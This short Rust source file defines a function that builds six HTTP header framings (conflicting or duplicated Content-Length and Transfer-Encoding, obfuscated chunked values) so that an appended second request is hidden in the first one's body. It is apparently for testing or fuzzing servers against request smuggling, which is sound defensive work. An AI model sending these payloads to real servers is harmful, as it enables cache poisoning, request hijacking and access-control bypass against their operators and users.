//! Heads whose framing servers have read in two ways, so that a second request hid in the first one's body.

/// What follows a request's line and other fields: fields of framing, the blank line, and the bytes of `smuggled` where
/// somebody might take them for the next request.
pub fn framings(smuggled: &str) -> Vec<String> {
    let length = smuggled.len();
    vec![
        format!(
            "content-length: {}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}",
            length + 5
        ),
        format!("transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n{smuggled}"),
        format!("content-length: 0\r\ncontent-length: {length}\r\n\r\n{smuggled}"),
        format!("transfer-encoding: xchunked\r\n\r\n{smuggled}"),
        format!("transfer-encoding: chunked, identity\r\n\r\n{smuggled}"),
        format!("content-length: {length}\r\nconnection: close, content-length\r\n\r\n{smuggled}"),
    ]
}
